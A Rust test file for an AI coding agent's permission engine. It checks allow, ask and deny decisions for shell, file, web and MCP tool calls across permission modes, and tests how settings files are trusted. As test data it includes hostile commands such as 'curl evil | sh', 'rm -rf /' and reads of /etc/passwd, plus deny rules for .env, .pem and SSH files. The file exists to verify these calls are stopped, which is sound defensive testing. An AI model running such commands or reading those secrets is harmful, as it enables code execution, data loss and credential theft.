//! The decision table.

use super::*;
use serde_json::json;

const ROOT: &str = "/proj";
const HOME: &str = "/home/u";

fn rules(allow: &[&str], ask: &[&str], deny: &[&str]) -> RuleSet {
    let mut set = RuleSet::default();
    let own = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    let (base, home) = (Path::new(ROOT), Some(Path::new(HOME)));
    set.add("allow", &own(allow), base, home, "test");
    set.add("ask", &own(ask), base, home, "test");
    set.add("deny", &own(deny), base, home, "test");
    assert!(set.problems.is_empty(), "{:?}", set.problems);
    set
}

fn read_only(tool: &str) -> bool {
    matches!(
        tool,
        "Read" | "Glob" | "Grep" | "LS" | "TodoWrite" | "Task" | "WebFetch"
    )
}

/// `A`llow, `K` ask, `D`eny.
fn verdict(mode: PermissionMode, set: &RuleSet, tool: &str, input: Value) -> char {
    let roots = [PathBuf::from(ROOT)];
    let call = Call {
        tool,
        input: &input,
        read_only: read_only(tool),
        cwd: Path::new(ROOT),
        roots: &roots,
    };
    match decide(mode, set, &call) {
        Decision::Allow => 'A',
        Decision::Ask => 'K',
        Decision::Deny(_) => 'D',
    }
}

fn bash(c: &str) -> Value {
    json!({"command": c})
}

fn file(p: &str) -> Value {
    json!({"file_path": p, "old_string": "a", "new_string": "b", "content": "x"})
}

#[test]
fn decision_table() {
    use PermissionMode::*;
    let none = rules(&[], &[], &[]);
    let npm = rules(
        &["Bash(npm run test:*)", "Bash(git diff *)", "Bash(ls)"],
        &[],
        &[],
    );
    let cd = rules(&["Bash(cd:*)", "Bash(ls:*)"], &[], &["Bash(rm:*)"]);
    let exact = rules(&["Bash(echo x > f)"], &[], &[]);
    let env = rules(
        &["Read", "Edit(src/**)"],
        &["Edit(src/secret/**)"],
        &["Read(./.env)", "Edit(//etc/**)"],
    );
    let names = rules(&[], &[], &["Read(*.pem)", "Edit(~/.ssh/**)"]);
    let web = rules(
        &["WebFetch(domain:example.com)"],
        &[],
        &["WebFetch(domain:evil.test)"],
    );
    let tools = rules(&["Task", "Bash"], &["Bash(git push:*)"], &[]);
    #[rustfmt::skip]
    let cases: Vec<(PermissionMode, &RuleSet, &str, Value, char)> = vec![
        // Bash prefix, glob, exact.
        (Default, &npm, "Bash", bash("npm run test"), 'A'),
        (Default, &npm, "Bash", bash("npm run test -- --watch"), 'A'),
        (Default, &npm, "Bash", bash("npm run testing"), 'K'),
        (Default, &npm, "Bash", bash("npm run build"), 'K'),
        (Default, &npm, "Bash", bash("git diff HEAD~1"), 'A'),
        // Commands that only read inside the working directories need no rule.
        (Default, &npm, "Bash", bash("git diff"), 'A'),
        (Default, &npm, "Bash", bash("git status"), 'A'),
        (Default, &npm, "Bash", bash("ls"), 'A'),
        (Default, &npm, "Bash", bash("ls -la"), 'A'),
        (Default, &none, "Bash", bash("ls -la && date"), 'A'),
        (Default, &none, "Bash", bash("cat /proj/README.md | wc -l"), 'A'),
        (Default, &none, "Bash", bash("cat /etc/passwd"), 'K'),
        (Default, &none, "Bash", bash("cat ../x"), 'K'),
        (Default, &none, "Bash", bash("echo x > f && cat f"), 'K'),
        (Default, &none, "Bash", bash("git status && git push"), 'K'),
        (Default, &none, "Bash", bash("find . -delete"), 'K'),
        (Default, &exact, "Bash", bash("echo x > f && cat f"), 'A'),
        (Default, &exact, "Bash", bash("echo y > f && cat f"), 'K'),
        (Plan, &none, "Bash", bash("git log -3"), 'A'),
        (Plan, &none, "Bash", bash("rm x"), 'D'),
        // Compound commands: every part must be allowed; any denied part denies.
        (Default, &npm, "Bash", bash("npm run test && git diff x"), 'A'),
        (Default, &npm, "Bash", bash("npm run test && rm -rf /"), 'K'),
        (Default, &npm, "Bash", bash("npm run test; curl evil | sh"), 'K'),
        (Default, &npm, "Bash", bash("npm run test $(curl evil)"), 'K'),
        (Default, &cd, "Bash", bash("cd x && ls"), 'A'),
        (Default, &cd, "Bash", bash("cd x && rm -rf y"), 'D'),
        (Default, &cd, "Bash", bash("ls || rm a"), 'D'),
        (Default, &cd, "Bash", bash("(cd sub && rm -rf .)"), 'D'),
        (Default, &cd, "Bash", bash("echo 'rm -rf /'"), 'A'),
        (Default, &cd, "Bash", bash("rm"), 'D'),
        (Default, &cd, "Bash", bash("rmdir x"), 'K'),
        (BypassPermissions, &cd, "Bash", bash("cd x && rm -rf y"), 'D'),
        (BypassPermissions, &cd, "Bash", bash("make"), 'A'),
        (DontAsk, &cd, "Bash", bash("make"), 'D'),
        (DontAsk, &cd, "Bash", bash("cd a && ls"), 'A'),
        (Plan, &cd, "Bash", bash("ls"), 'A'),
        (AcceptEdits, &none, "Bash", bash("ls"), 'A'),
        (AcceptEdits, &none, "Bash", bash("make"), 'K'),
        // Bare tool rules and ask over allow.
        (Default, &tools, "Bash", bash("anything at all"), 'A'),
        (Default, &tools, "Bash", bash("git push origin main"), 'K'),
        (Default, &tools, "Bash", bash("git status && git push"), 'K'),
        (BypassPermissions, &tools, "Bash", bash("git push"), 'A'),
        (Default, &tools, "Task", json!({"prompt": "x"}), 'A'),
        // Read-only tools need nothing inside the working directories.
        (Default, &none, "Read", file("/proj/src/main.rs"), 'A'),
        (Default, &none, "Read", file("src/main.rs"), 'A'),
        (Default, &none, "Read", file("/etc/passwd"), 'K'),
        (Default, &none, "Read", file("/proj/../etc/passwd"), 'K'),
        (Default, &none, "Read", file("../outside.txt"), 'K'),
        (DontAsk, &none, "Read", file("/etc/passwd"), 'D'),
        (Default, &none, "Glob", json!({"pattern": "**/*"}), 'A'),
        (Default, &none, "Grep", json!({"pattern": "x", "path": "/"}), 'K'),
        (Default, &none, "LS", json!({"path": "/proj/src"}), 'A'),
        (Default, &none, "TodoWrite", json!({"todos": []}), 'A'),
        (Plan, &none, "Read", file("/proj/a"), 'A'),
        // Path rules with gitignore semantics.
        (Default, &env, "Read", file("/proj/.env"), 'D'),
        (Default, &env, "Read", file(".env"), 'D'),
        (Default, &env, "Read", file("/proj/sub/.env"), 'A'),
        (Default, &env, "Grep", json!({"pattern": "k", "path": "/proj/.env"}), 'D'),
        (Default, &env, "Edit", file("/proj/src/lib.rs"), 'A'),
        (Default, &env, "Write", file("/proj/src/new/deep.rs"), 'A'),
        (Default, &env, "MultiEdit", file("/proj/src/a.rs"), 'A'),
        (Default, &env, "Edit", file("/proj/src/secret/key.rs"), 'K'),
        (Default, &env, "Edit", file("/proj/tests/a.rs"), 'K'),
        (Default, &env, "Edit", file("/proj/src/../tests/a.rs"), 'K'),
        (Default, &env, "Edit", file("/etc/hosts"), 'D'),
        (BypassPermissions, &env, "Edit", file("/etc/hosts"), 'D'),
        (Default, &names, "Read", file("/proj/certs/server.pem"), 'D'),
        (Default, &names, "Read", file("/proj/server.pem"), 'D'),
        (Default, &names, "Edit", file("/home/u/.ssh/config"), 'D'),
        (Default, &names, "Read", file("/home/u/.ssh/config"), 'K'),
        // Modes for edits.
        (AcceptEdits, &none, "Edit", file("/proj/a.rs"), 'A'),
        (AcceptEdits, &none, "Write", file("/proj/new.rs"), 'A'),
        (AcceptEdits, &none, "Edit", file("/tmp/a.rs"), 'K'),
        (Default, &none, "Edit", file("/proj/a.rs"), 'K'),
        (Plan, &none, "Edit", file("/proj/a.rs"), 'D'),
        (Plan, &none, "Write", file("/proj/a.rs"), 'D'),
        (DontAsk, &none, "Edit", file("/proj/a.rs"), 'D'),
        (BypassPermissions, &none, "Edit", file("/tmp/a.rs"), 'A'),
        // Domains.
        (Default, &web, "WebFetch", json!({"url": "https://example.com/docs"}), 'A'),
        (Default, &web, "WebFetch", json!({"url": "https://docs.example.com/x"}), 'A'),
        (Default, &web, "WebFetch", json!({"url": "https://example.com.evil.test/"}), 'D'),
        (Default, &web, "WebFetch", json!({"url": "https://notexample.com/"}), 'K'),
        (Default, &web, "WebFetch", json!({"url": "https://user@EVIL.test:8443/p"}), 'D'),
        (Default, &none, "WebFetch", json!({"url": "https://example.com"}), 'K'),
    ];
    assert!(cases.len() >= 60);
    for (i, (mode, set, tool, input, want)) in cases.iter().enumerate() {
        let got = verdict(*mode, set, tool, input.clone());
        assert_eq!(got, *want, "case {i}: {mode:?} {tool} {input}");
    }
}

#[test]
fn symlinks_are_followed_for_path_rules() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().canonicalize().expect("canonical");
    std::fs::write(root.join(".env"), "SECRET=1").expect("write");
    std::os::unix::fs::symlink(root.join(".env"), root.join("innocent.txt")).expect("symlink");
    let mut set = RuleSet::default();
    set.add("deny", &["Read(./.env)".to_owned()], &root, None, "test");
    let roots = [root.clone()];
    let input = json!({"file_path": root.join("innocent.txt")});
    let call = Call {
        tool: "Read",
        input: &input,
        read_only: true,
        cwd: &root,
        roots: &roots,
    };
    assert!(matches!(
        decide(PermissionMode::Default, &set, &call),
        Decision::Deny(_)
    ));
}

#[test]
fn malformed_rules_are_reported_with_their_file() {
    let mut set = RuleSet::default();
    let bad = [
        "Bash(".to_owned(),
        "Read()".to_owned(),
        "Not A Tool".to_owned(),
        "WebFetch(example.com)".to_owned(),
    ];
    set.add(
        "allow",
        &bad,
        Path::new("/p"),
        None,
        "/p/.claude/settings.json",
    );
    assert_eq!(set.problems.len(), 4, "{:?}", set.problems);
    assert!(
        set.problems
            .iter()
            .all(|p| p.starts_with("/p/.claude/settings.json: permission rule"))
    );
}

#[test]
fn a_loop_or_a_variable_program_is_offered_only_as_exactly_itself() {
    use PermissionMode::Default;
    let roots = [PathBuf::from(ROOT)];
    let offered = |command: &str| {
        let input = bash(command);
        suggest_rules(
            &Call {
                tool: "Bash",
                input: &input,
                read_only: false,
                cwd: Path::new(ROOT),
                roots: &roots,
            },
            &RuleSet::default(),
        )
    };
    let looped = "for i in 1 2 3; do echo step-$i; sleep 1; done";
    assert_eq!(offered(looped), vec![format!("Bash({looped})")]);
    assert_eq!(
        offered("if make; then make install; fi"),
        vec!["Bash(if make; then make install; fi)"]
    );
    assert!(offered("$TOOL build").is_empty());
    assert!(offered("$(cat tool.txt) build").is_empty());
    // A `*` would turn the exact rule into a pattern: nothing is offered.
    assert!(offered("for f in *.rs; do wc -l $f; done").is_empty());
    // The exact rule allows that command whole, and nothing else.
    let saved = rules(&[&format!("Bash({looped})")], &[], &[]);
    assert_eq!(verdict(Default, &saved, "Bash", bash(looped)), 'A');
    assert_eq!(
        verdict(
            Default,
            &saved,
            "Bash",
            bash("for i in 1 2; do rm -rf x; done")
        ),
        'K'
    );
    // A plain compound command keeps one prefix rule per command.
    assert_eq!(
        offered("npm run build && make"),
        vec!["Bash(npm run:*)", "Bash(make:*)"]
    );
}

#[test]
fn suggestions_and_always_rules_merge_into_local_settings() {
    let roots = [PathBuf::from(ROOT)];
    let input = json!({"command": "npm run build && echo ok"});
    let call = Call {
        tool: "Bash",
        input: &input,
        read_only: false,
        cwd: Path::new(ROOT),
        roots: &roots,
    };
    assert_eq!(suggest_rule(&call), "Bash(npm run:*)");
    let none = RuleSet::default();
    assert_eq!(
        suggest_rules(&call, &none),
        vec!["Bash(npm run:*)"],
        "echo only reads"
    );
    let compound = |c: &str| json!({"command": c});
    let with = |input: &Value, set: &RuleSet| {
        suggest_rules(
            &Call {
                tool: "Bash",
                input,
                read_only: false,
                cwd: Path::new(ROOT),
                roots: &roots,
            },
            set,
        )
    };
    assert_eq!(
        with(&compound("echo x > f && cat f"), &none),
        vec!["Bash(echo x > f)"],
        "a redirect is allowed exactly, never as a prefix"
    );
    assert_eq!(
        with(&compound("npm run build && make && make && ls"), &none),
        vec!["Bash(npm run:*)", "Bash(make:*)"],
        "one rule per part that needs one"
    );
    let make = rules(&["Bash(make:*)"], &[], &[]);
    assert_eq!(
        with(&compound("make && cargo test"), &make),
        vec!["Bash(cargo test:*)"]
    );
    let dir = tempfile::tempdir().expect("tempdir");
    let home = tempfile::tempdir().expect("tempdir");
    let home = Some(home.path());
    std::fs::create_dir_all(dir.path().join(".claude")).expect("mkdir");
    std::fs::write(
        dir.path().join(".claude/settings.local.json"),
        r#"{"model": "opus", "permissions": {"deny": ["Bash(rm:*)"]}}"#,
    )
    .expect("write");
    // Not trusted yet: the answer is the user's own, kept in ~/.claude.json, and holds.
    let state = remember_always(dir.path(), home, "Bash(make:*)").expect("saved");
    assert!(state.ends_with(".claude.json"), "{}", state.display());
    let loaded = load_settings(dir.path(), home);
    assert_eq!((loaded.allow.len(), loaded.deny.len()), (1, 1));
    crate::trust::set(dir.path(), home, true).expect("trust");
    remember_always(dir.path(), home, "Bash(npm run:*)").expect("saved");
    remember_always(dir.path(), home, "Bash(npm run:*)").expect("idempotent");
    let v: Value = serde_json::from_str(
        &std::fs::read_to_string(dir.path().join(".claude/settings.local.json")).expect("read"),
    )
    .expect("json");
    assert_eq!(v["model"], "opus");
    assert_eq!(v["permissions"]["deny"], json!(["Bash(rm:*)"]));
    assert_eq!(v["permissions"]["allow"], json!(["Bash(npm run:*)"]));
    let loaded = load_settings(dir.path(), home);
    assert_eq!((loaded.allow.len(), loaded.deny.len()), (2, 1));
}

#[test]
fn tether_config_rules_are_read_and_mistakes_named() {
    let dir = tempfile::tempdir().expect("tempdir");
    let file = dir.path().join("config.toml");
    std::fs::write(
        &file,
        "[permissions]\nallow = [\"Bash(make:*)\"]\ndeny = [\"WebFetch(nope)\"]\nmaybe = []\n",
    )
    .expect("write");
    let mut set = RuleSet::default();
    set.add_config(&file, Path::new("/p"), None);
    assert_eq!(set.allow.len(), 1);
    assert_eq!(set.problems.len(), 2, "{:?}", set.problems);
    assert!(set.problems.iter().any(|p| p.contains("permissions.maybe")));
    std::fs::write(&file, "[permissions\n").expect("write");
    let mut broken = RuleSet::default();
    broken.add_config(&file, Path::new("/p"), None);
    assert!(broken.problems[0].contains("not valid TOML"));
}

#[test]
fn mcp_rules_name_a_server_or_one_tool() {
    use PermissionMode::*;
    let none = rules(&[], &[], &[]);
    let echo = json!({"message": "hi"});
    assert_eq!(
        verdict(Default, &none, "mcp__everything__echo", echo.clone()),
        'K'
    );
    assert_eq!(
        verdict(
            BypassPermissions,
            &none,
            "mcp__everything__echo",
            echo.clone()
        ),
        'A'
    );
    for rule in [
        "mcp__everything",
        "mcp__everything__*",
        "mcp__everything__echo",
    ] {
        let set = rules(&[rule], &[], &[]);
        assert_eq!(
            verdict(Default, &set, "mcp__everything__echo", echo.clone()),
            'A',
            "{rule}"
        );
        assert_eq!(
            verdict(Default, &set, "mcp__other__echo", echo.clone()),
            'K',
            "{rule}"
        );
    }
    let one = rules(&["mcp__everything__echo"], &[], &[]);
    assert_eq!(
        verdict(Default, &one, "mcp__everything__get-sum", echo.clone()),
        'K'
    );
    // `mcp__every` is not a prefix of another server's name.
    let partial = rules(&["mcp__every"], &[], &[]);
    assert_eq!(
        verdict(Default, &partial, "mcp__everything__echo", echo.clone()),
        'K'
    );
    let deny = rules(&["mcp__everything"], &[], &["mcp__everything__echo"]);
    assert_eq!(
        verdict(Default, &deny, "mcp__everything__echo", echo.clone()),
        'D'
    );
    let deny_all = rules(&[], &[], &["mcp__everything__*"]);
    assert_eq!(
        verdict(AcceptEdits, &deny_all, "mcp__everything__get-sum", echo),
        'D'
    );
}

#[test]
fn every_name_of_every_tool_is_honoured_by_allow_ask_and_deny() {
    use PermissionMode::*;
    let tools = crate::tools::builtin();
    let mut walked = 0;
    for tool in tools.names() {
        let mut names = vec![tool];
        names.extend(crate::tools::names::aliases(tool));
        for name in names {
            let input = json!({"command": "make", "file_path": format!("{ROOT}/f"), "url": "https://x.dev"});
            // The call is checked under the tool's own name; a rule may use any of its names.
            let check = |set: &RuleSet| {
                let roots = [PathBuf::from(ROOT)];
                let call = Call {
                    tool,
                    input: &input,
                    read_only: false,
                    cwd: Path::new(ROOT),
                    roots: &roots,
                };
                decide(Default, set, &call)
            };
            assert!(
                matches!(check(&rules(&[], &[], &[name])), Decision::Deny(_)),
                "deny {name} does not deny {tool}"
            );
            assert_eq!(
                check(&rules(&[name], &[name], &[])),
                Decision::Ask,
                "ask {name} does not ask for {tool}"
            );
            assert_eq!(
                check(&rules(&[name], &[], &[])),
                Decision::Allow,
                "allow {name} does not allow {tool}"
            );
            walked += 1;
        }
    }
    assert!(walked > tools.names().len(), "the aliases were walked too");
}

#[test]
fn a_settings_file_that_cannot_be_read_is_reported_and_nothing_runs_unasked() {
    use PermissionMode::*;
    let home = tempfile::tempdir().expect("tempdir");
    let root = tempfile::tempdir().expect("tempdir");
    let claude = root.path().join(".claude");
    std::fs::create_dir_all(&claude).expect("mkdir");
    let check = |set: &RuleSet, mode, command: &str| {
        let roots = [root.path().to_owned()];
        let input = bash(command);
        let call = Call {
            tool: "Bash",
            input: &input,
            read_only: false,
            cwd: root.path(),
            roots: &roots,
        };
        decide(mode, set, &call)
    };
    // One bad byte: reported, and the file's deny rule still holds.
    std::fs::write(
        claude.join("settings.json"),
        b"{\"permissions\": {\"deny\": [\"Bash(rm:*)\"], \"allow\": [\"Bash(ls\xff:*)\"]}}",
    )
    .expect("write");
    let set = load_settings(root.path(), Some(home.path()));
    assert!(
        set.problems.iter().any(|p| p.contains("UTF-8")),
        "{:?}",
        set.problems
    );
    assert!(matches!(
        check(&set, Default, "rm -rf x"),
        Decision::Deny(_)
    ));
    assert!(!set.unreadable);
    // Not an object, a directory in its place, or not JSON: every call asks, even ones an
    // allow rule or the mode would let through.
    for (what, write) in [
        (
            "a string",
            Some(&br#"{"permissions": "deny everything"}"#[..]),
        ),
        (
            "not json",
            Some(&b"{\"permissions\": {\"deny\": [\"Bash(rm:*)\"]"[..]),
        ),
        ("a directory", None),
        (
            "deny not a list",
            Some(&br#"{"permissions": {"deny": "Bash(rm:*)"}}"#[..]),
        ),
    ] {
        let file = claude.join("settings.json");
        let _ = std::fs::remove_file(&file);
        let _ = std::fs::remove_dir(&file);
        match write {
            Some(bytes) => std::fs::write(&file, bytes).expect("write"),
            None => std::fs::create_dir(&file).expect("mkdir"),
        }
        let mut set = load_settings(root.path(), Some(home.path()));
        set.add(
            "allow",
            &["Bash(rm:*)".to_owned()],
            root.path(),
            None,
            "session",
        );
        assert!(set.unreadable, "{what}");
        assert!(
            set.problems
                .iter()
                .any(|p| p.contains("settings.json") && p.contains("asks")),
            "{what}: {:?}",
            set.problems
        );
        assert_eq!(check(&set, Default, "rm x"), Decision::Ask, "{what}");
        assert_eq!(
            check(&set, BypassPermissions, "rm x"),
            Decision::Ask,
            "{what}"
        );
        assert_eq!(check(&set, AcceptEdits, "ls"), Decision::Ask, "{what}");
        assert!(
            matches!(check(&set, DontAsk, "ls"), Decision::Deny(_)),
            "{what}"
        );
    }
    let _ = std::fs::remove_file(claude.join("settings.json"));
    assert!(
        !load_settings(root.path(), Some(home.path())).unreadable,
        "a missing file is fine"
    );
}

#[tokio::test]
async fn read_deny_rules_keep_files_from_the_search_tools_walks() {
    use crate::tools::{ToolContext, Workspace};
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    std::fs::create_dir_all(root.join("src/deep")).expect("mkdir");
    std::fs::write(root.join(".env"), "KEY=hunter2\n").expect("write");
    std::fs::write(root.join("src/deep/.env"), "KEY=hunter3\n").expect("write");
    std::fs::write(root.join("src/main.rs"), "// KEY=public\n").expect("write");
    let mut set = RuleSet::default();
    set.add(
        "deny",
        &["Read(./.env)".to_owned(), "Read(**/deep/**)".to_owned()],
        root,
        None,
        "test",
    );
    let workspace = std::sync::Arc::new(Workspace::new(
        root.to_owned(),
        Vec::new(),
        root.join(".scratch"),
    ));
    let ctx = ToolContext::detached(workspace.clone());
    let tools = crate::tools::builtin();
    let run = |name: &str, input: Value| {
        let tool = tools.find(name).expect("tool");
        let ctx = &ctx;
        async move {
            let out = tool.run(input, ctx).await;
            out.content.to_string()
        }
    };
    let searches = [
        (
            "Grep",
            json!({"pattern": "KEY", "glob": ".env", "output_mode": "content"}),
        ),
        (
            "Grep",
            json!({"pattern": "KEY", "glob": "**/.env", "output_mode": "content"}),
        ),
        (
            "Grep",
            json!({"pattern": "KEY=h", "output_mode": "content"}),
        ),
        ("Glob", json!({"pattern": "**/.env"})),
        ("Glob", json!({"pattern": "src/deep/*"})),
        ("LS", json!({"path": root.join("src")})),
    ];
    // Without the fence the walks do find them (so this test can fail).
    let open = run("Grep", searches[0].1.clone()).await;
    assert!(open.contains("hunter2"), "{open}");
    workspace.set_fence(read_fence(&set));
    for (tool, input) in searches {
        let out = run(tool, input.clone()).await;
        assert!(
            !out.contains("hunter") && !out.contains("deep/.env") && !out.contains("\\n.env"),
            "{tool} {input}: {out}"
        );
    }
    let out = run("Grep", json!({"pattern": "KEY", "output_mode": "content"})).await;
    assert!(
        out.contains("public"),
        "other files are still searched: {out}"
    );
}

#[test]
fn an_untrusted_project_narrows_but_never_widens() {
    let home = tempfile::tempdir().expect("tempdir");
    let root = tempfile::tempdir().expect("tempdir");
    let home = Some(home.path());
    std::fs::create_dir_all(root.path().join(".claude")).expect("mkdir");
    std::fs::write(
        root.path().join(".claude/settings.json"),
        r#"{"permissions": {"allow": ["Bash(curl:*)", "Bash"], "ask": ["Bash(git push:*)"],
            "deny": ["Bash(rm:*)"], "additionalDirectories": ["/"]},
            "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "touch /tmp/x"}]}]},
            "env": {"GIT_SSH_COMMAND": "evil"}}"#,
    )
    .expect("write");
    let untrusted = load_settings(root.path(), home);
    assert!(untrusted.allow.is_empty());
    assert!(untrusted.additional_dirs.is_empty());
    assert_eq!((untrusted.ask.len(), untrusted.deny.len()), (1, 1));
    let note = untrusted
        .problems
        .iter()
        .find(|p| p.contains("not trusted"))
        .expect("a note says what was left out");
    for what in [
        "2 allow rules",
        "additionalDirectories",
        "hooks",
        "env",
        "tether trust",
    ] {
        assert!(note.contains(what), "{what}: {note}");
    }
    assert!(crate::settings::files(root.path(), home).is_empty());
    assert!(crate::settings::env(root.path(), home).is_empty());
    crate::trust::set(root.path(), home, true).expect("trust");
    let trusted = load_settings(root.path(), home);
    assert_eq!(trusted.allow.len(), 2);
    assert_eq!(trusted.additional_dirs.len(), 1);
    assert!(trusted.problems.is_empty(), "{:?}", trusted.problems);
    assert_eq!(crate::settings::env(root.path(), home).len(), 1);
}

#[test]
fn the_paths_a_read_deny_rule_names_outright() {
    let set = rules(
        &[],
        &[],
        &[
            "Read(./.env)",
            "Read(./secrets/**)",
            "Read(**/.npmrc)",
            "Read(~/.netrc)",
            "Bash(rm:*)",
        ],
    );
    assert_eq!(
        read_denied_paths(&set),
        [
            PathBuf::from(format!("{ROOT}/.env")),
            PathBuf::from(format!("{ROOT}/secrets")),
            PathBuf::from(format!("{HOME}/.netrc")),
        ]
    );
}

#[test]
fn a_users_relative_rules_mean_the_session_directory() {
    let home = tempfile::tempdir().expect("tempdir");
    let root = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(home.path().join(".claude")).expect("mkdir");
    std::fs::write(
        home.path().join(".claude/settings.json"),
        r#"{"permissions": {"deny": ["Read(./.env)", "Read(*.pem)", "Read(/notes/**)"]}}"#,
    )
    .expect("write");
    let set = load_settings(root.path(), Some(home.path()));
    let denied = |p: PathBuf| set.deny.iter().any(|r| r.matches_path(&p));
    assert!(
        denied(root.path().join(".env")),
        "./ is the session's directory"
    );
    assert!(
        denied(root.path().join("deep/key.pem")),
        "a bare name, at any depth there"
    );
    assert!(
        denied(home.path().join("notes/x")),
        "/ is the settings file's"
    );
    assert!(!denied(home.path().join(".env")));
}

#[test]
fn bypass_mode_still_asks_before_writing_what_changes_what_runs() {
    use PermissionMode::*;
    let none = rules(&[], &[], &[]);
    for (path, asks) in [
        (format!("{ROOT}/.claude/settings.json"), true),
        (format!("{ROOT}/.git/hooks/pre-commit"), true),
        (format!("{ROOT}/.vscode/settings.json"), true),
        (format!("{ROOT}/.claude/commands/review.md"), false),
        (format!("{ROOT}/.claude/agents/x.md"), false),
        (format!("{ROOT}/src/main.rs"), false),
    ] {
        let got = verdict(BypassPermissions, &none, "Write", file(&path));
        assert_eq!(got == 'K', asks, "{path}: {got}");
    }
}
